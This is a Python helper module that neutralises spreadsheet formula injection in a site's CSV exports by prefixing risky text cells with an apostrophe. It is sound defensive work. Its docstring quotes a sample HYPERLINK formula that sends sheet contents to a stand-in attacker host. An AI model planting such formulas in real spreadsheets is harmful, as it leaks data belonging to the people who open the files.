"""Spreadsheet formula injection: every CSV the site produces passes its cells through here (no Django).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel or LibreOffice when the file is opened (OWASP « CSV injection »): a visitor's
comment ``=HYPERLINK("http://evil.example/?x="&A1,"Voir")`` would leak the sheet. Such text gets a
leading apostrophe, which spreadsheets show as plain text. Numbers are never touched: a negative
number, as a number or as its text (``-12,5``, ``-3.2e5``), stays a number.

A leaf module (standard library only), so that every app, the ground-floor ``audience`` included,
may use it without depending on the rest of ``website``.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d[\d\u202f\u00a0]*)([.,]\d+)?([eE][+-]?\d+)?$", re.ASCII)


def neutralise_cell(value: Any) -> Any:
    """``value`` safe to write in a CSV cell: text that a spreadsheet would run as a formula is quoted."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.match(value):
        return value
    return "'" + value


def neutralise_row(row: dict[str, Any] | list[Any] | tuple[Any, ...]) -> Any:
    """A CSV row (mapping or sequence) with each cell passed through :func:`neutralise_cell`."""
    if isinstance(row, dict):
        return {key: neutralise_cell(value) for key, value in row.items()}
    return [neutralise_cell(value) for value in row]
